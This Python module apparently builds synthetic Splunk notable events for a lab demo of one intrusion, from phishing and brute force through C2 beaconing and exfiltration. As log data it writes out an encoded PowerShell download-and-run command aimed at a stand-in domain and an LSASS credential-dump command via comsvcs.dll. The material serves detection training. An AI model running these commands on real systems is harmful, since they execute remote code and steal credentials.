"""The demo's incident: one intrusion, seen by a dozen correlation searches.

``python -m lab.demo.incident`` writes it to ``notables.csv`` beside this file. Addresses and names are those that are
reserved for documentation; hashes are those of the texts that stand in ``_digest``'s calls.
"""

from __future__ import annotations

import base64
import hashlib
from pathlib import Path

from lab.demo.notable import Notable, Table

NOTABLES_FILE = Path(__file__).with_name("notables.csv")

_ATTACKER = "203.0.113.45"
_C2 = "198.51.100.77"
_C2_DOMAIN = "cdn-updates.example.net"
_WORKSTATION = "FIN-WS-042"
_WORKSTATION_IP = "10.20.4.42"
_VICTIM = "maria.keller"
_DROPPER = "C:\\Users\\maria.keller\\AppData\\Local\\Temp\\invoice_4471.exe"


def _digest(algorithm: str, text: str) -> str:
    return hashlib.new(algorithm, text.encode(), usedforsecurity=False).hexdigest()


def _encoded_command() -> str:
    script = f"IEX (New-Object Net.WebClient).DownloadString('https://{_C2_DOMAIN}/u/s.ps1')"
    return f"powershell.exe -NoP -W Hidden -Enc {base64.b64encode(script.encode('utf-16-le')).decode()}"


def notables() -> tuple[Notable, ...]:
    """Give the notables in the order in which they came up."""
    return tuple(sorted((*_entry(), *_endpoint(), *_network(), *_spread()), key=lambda notable: notable.minute))


def _entry() -> tuple[Notable, ...]:
    return (
        Notable(
            minute=0,
            domain="network",
            rule="Suspicious Email - Attachment Delivered To Several Users",
            title="Phishing mail “Rechnung fällig” to 4 recipients",
            description="A mail with an executable inside an archive was delivered to several mailboxes.",
            urgency="medium",
            sourcetype="ms:o365:reporting:messagetrace",
            techniques=("T1566", "T1566.001"),
            tactics=("initial-access",),
            fields={
                "src_user": "billing@invoices.example.org",
                "recipient": (
                    "maria.keller@example.com",
                    "j.oneill@example.com",
                    "søren.lund@example.com",
                    "finance@example.com",
                ),
                "subject": "Rechnung fällig: 4471 (2. Mahnung)",
                "message_id": "<20261118.4471@invoices.example.org>",
                "src": _ATTACKER,
                "file_name": ("invoice_4471.zip", "invoice_4471.exe"),
                "file_hash": (_digest("sha256", "archive"), _digest("sha256", "dropper")),
                "url": f"https://{_C2_DOMAIN}/pay?ref=4471&amount=$1,200$",
                "action": "delivered",
            },
        ),
        Notable(
            minute=14,
            domain="access",
            rule="Brute Force Access Behavior Detected",
            title=f"Brute force from {_ATTACKER} against vpn-gw-01",
            description="Many failed logins from one source within ten minutes.",
            urgency="high",
            sourcetype="cisco:asa",
            techniques=("T1110", "T1110.003"),
            tactics=("credential-access",),
            fields={
                "src": _ATTACKER,
                "dest": "vpn-gw-01",
                "user": (_VICTIM, "administrator", "svc_backup", "j.oneill"),
                "app": "vpn",
                "failure": "418",
                "success": "0",
                "dest_category": ("vpn", "perimeter"),
                "dest_priority": "critical",
            },
        ),
        Notable(
            minute=19,
            domain="access",
            rule="Successful Login After Brute Force",
            title=f"{_VICTIM} logged in from {_ATTACKER} after 418 failures",
            description="The source of a brute force attack has logged in.",
            urgency="critical",
            sourcetype="cisco:asa",
            techniques=("T1078", "T1110"),
            tactics=("initial-access", "credential-access"),
            fields={
                "src": _ATTACKER,
                "src_ip": _ATTACKER,
                "dest": "10.20.0.5",
                "dest_dns": "vpn-gw-01.corp.example.com",
                "user": _VICTIM,
                "app": "vpn",
                "action": "success",
                "failure": "418",
                "success": "1",
            },
        ),
        Notable(
            minute=23,
            domain="identity",
            rule="Okta Multiple Failed MFA Requests For User",
            title=f"MFA fatigue: 23 push requests for {_VICTIM}",
            description="A user was sent many MFA requests in a short time and accepted one.",
            urgency="high",
            sourcetype="OktaIM2:log",
            techniques=("T1621",),
            tactics=("credential-access",),
            fields={
                "user": f"{_VICTIM}@example.com",
                "src_ip": _ATTACKER,
                "src": _ATTACKER,
                "app": "Okta",
                "signature": "user.mfa.okta_verify.deny_push",
                "http_user_agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
                "src_country": "Example Land",
                "count": "23",
                "authentication_method": ("OKTA_VERIFY_PUSH", "SMS"),
            },
        ),
    )


def _endpoint() -> tuple[Notable, ...]:
    return (
        Notable(
            minute=31,
            domain="endpoint",
            rule="Suspicious PowerShell With Encoded Command",
            title=f"Encoded PowerShell on {_WORKSTATION}",
            description="PowerShell was started hidden, with an encoded command that downloads a script.",
            urgency="high",
            sourcetype="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
            techniques=("T1059.001", "T1027"),
            tactics=("execution", "defense-evasion"),
            fields={
                "dest": _WORKSTATION,
                "dest_ip": _WORKSTATION_IP,
                "user": f"CORP\\{_VICTIM}",
                "process": _encoded_command(),
                "process_name": "powershell.exe",
                "process_id": "7312",
                "process_path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "process_hash": f"SHA256={_digest('sha256', 'powershell')}",
                "parent_process": f'"{_DROPPER}" /quiet',
                "parent_process_name": "invoice_4471.exe",
                "parent_process_id": "6640",
            },
        ),
        Notable(
            minute=33,
            domain="endpoint",
            rule="Host With Malware Detected",
            title=f"Malware Win32/Dropper.X on {_WORKSTATION}, not cleaned",
            description="Antivirus found malware and could not remove it.",
            urgency="critical",
            sourcetype="symantec:ep:risk:file",
            techniques=("T1204.002",),
            tactics=("execution",),
            fields={
                "dest": _WORKSTATION,
                "dest_ip": _WORKSTATION_IP,
                "dest_mac": "00:00:5e:00:53:2a",
                "user": _VICTIM,
                "signature": "Win32/Dropper.X",
                "file_name": "invoice_4471.exe",
                "file_path": _DROPPER,
                "file_hash": (_digest("md5", "dropper"), _digest("sha1", "dropper"), _digest("sha256", "dropper")),
                "action": "allowed",
                "category": ("malware", "trojan"),
                "vendor_product": "Symantec Endpoint Protection",
            },
        ),
        Notable(
            minute=47,
            domain="endpoint",
            rule="Access To LSASS Memory",
            title=f"LSASS memory read on {_WORKSTATION}",
            description="A process opened the memory of LSASS with rights that credential dumpers ask for.",
            urgency="critical",
            sourcetype="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
            techniques=("T1003.001",),
            tactics=("credential-access",),
            fields={
                "dest": f"{_WORKSTATION}.corp.example.com",
                "user": "NT AUTHORITY\\SYSTEM",
                "process_name": "rundll32.exe",
                "process": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Temp\\l.dmp full",
                "process_id": "8120",
                "TargetImage": "C:\\Windows\\System32\\lsass.exe",
                "GrantedAccess": "0x1fffff",
                "file_path": "C:\\Temp\\l.dmp",
            },
        ),
    )


def _network() -> tuple[Notable, ...]:
    return (
        Notable(
            minute=36,
            domain="network",
            rule="DNS Query To Newly Registered Domain",
            title=f"{_WORKSTATION} asked for {_C2_DOMAIN}",
            description="A domain that was registered less than a week ago was looked up.",
            urgency="low",
            sourcetype="stream:dns",
            techniques=("T1071.004",),
            tactics=("command-and-control",),
            fields={
                "src": _WORKSTATION_IP,
                "dest": "10.20.0.53",
                "dest_port": "53",
                "transport": "udp",
                "query": _C2_DOMAIN,
                "answer": (_C2, "198.51.100.78", "2001:db8::4d"),
                "record_type": "A",
                "message_type": "Response",
            },
        ),
        Notable(
            minute=41,
            domain="network",
            rule="Beaconing To Command And Control Server",
            title=f"Beacon every 60 s from {_WORKSTATION_IP} to {_C2_DOMAIN}",
            description="Requests of the same size at the same pace to a domain on a threat list.",
            urgency="critical",
            sourcetype="pan:threat",
            techniques=("T1071.001", "T1573"),
            tactics=("command-and-control",),
            fields={
                "src": _WORKSTATION_IP,
                "src_port": "51844",
                "dest": _C2,
                "dest_ip": _C2,
                "dest_port": "443",
                "url": f"https://{_C2_DOMAIN}/u/beacon.php?id=7f3a&os=win",
                "url_domain": _C2_DOMAIN,
                "http_method": "POST",
                "http_user_agent": "Mozilla/4.0 (compatible; MSIE 8.0)",
                "bytes_in": "2048",
                "bytes_out": "524288",
                "action": "allowed",
                "threat_match_field": "dest",
                "threat_match_value": _C2,
                "threat_group": ("example_c2_list", "sector_share"),
            },
        ),
        Notable(
            minute=88,
            domain="threat",
            rule="Data Sent To Rare Destination",
            title="1.4 GB left for 198.51.100.77",
            description="A host sent far more than it ever did, to an address that nobody else talks to.",
            urgency="high",
            sourcetype="pan:traffic",
            techniques=("T1041",),
            tactics=("exfiltration",),
            fields={
                "src_ip": "10.20.7.11",
                "src": "fileserver-02",
                "dest_ip": _C2,
                "dest": _C2,
                "dest_port": "443",
                "bytes_out": "1503238553",
                "duration": "1260",
                "user": "svc_backup",
                "rule": "allow-web-out",
            },
        ),
    )


def _spread() -> tuple[Notable, ...]:
    return (
        Notable(
            minute=62,
            domain="access",
            rule="AWS Console Login By User From New Country",
            title="svc_backup signed in to AWS from a new country",
            description="A console login without MFA from a place where the user never was.",
            urgency="high",
            sourcetype="aws:cloudtrail",
            techniques=("T1078.004", "T1586.003"),
            tactics=("initial-access", "persistence"),
            fields={
                "user": "svc_backup",
                "user_arn": "arn:aws:iam::123456789012:user/svc_backup",
                "src": "2001:db8:45::1",
                "src_ip": "2001:db8:45::1",
                "eventName": "ConsoleLogin",
                "eventSource": "signin.amazonaws.com",
                "awsRegion": "eu-central-1",
                "vendor_account": "123456789012",
                "additionalEventData.MFAUsed": "No",
                "user_agent": "Mozilla/5.0 (X11; Linux x86_64)",
                "action": "success",
                "dest": "signin.amazonaws.com",
            },
        ),
        Notable(
            minute=95,
            domain="threat",
            rule="Risk Threshold Exceeded For Object Over 24 Hour Period",
            title=f"24 hour risk threshold exceeded for {_WORKSTATION}",
            description="Risk events of several kinds have added up on one system.",
            urgency="critical",
            sourcetype="stash",
            techniques=("T1059.001", "T1003.001", "T1071.001", "T1566.001"),
            tactics=("execution", "credential-access", "command-and-control", "initial-access"),
            fields={
                "risk_object": _WORKSTATION,
                "risk_object_type": "system",
                "normalized_risk_object": _WORKSTATION.lower(),
                "risk_score": "340",
                "risk_threshold": "100",
                "risk_event_count": "9",
                "all_risk_objects": (_WORKSTATION, _VICTIM),
                "threat_object": (_ATTACKER, _C2_DOMAIN, _digest("sha256", "dropper"), "powershell.exe"),
                "threat_object_type": ("ip_address", "domain", "file_hash", "process_name"),
                "risk_message": (
                    f"Encoded PowerShell on {_WORKSTATION}",
                    f"Beacon to {_C2_DOMAIN}",
                    f"LSASS memory read on {_WORKSTATION}",
                ),
            },
        ),
    )


def write(path: Path = NOTABLES_FILE) -> None:
    """Write the notables as Splunk would export them."""
    table = Table([notable.row(number) for number, notable in enumerate(notables())])
    with path.open("w", encoding="utf-8", newline="") as stream:
        table.write(stream)


if __name__ == "__main__":
    write()
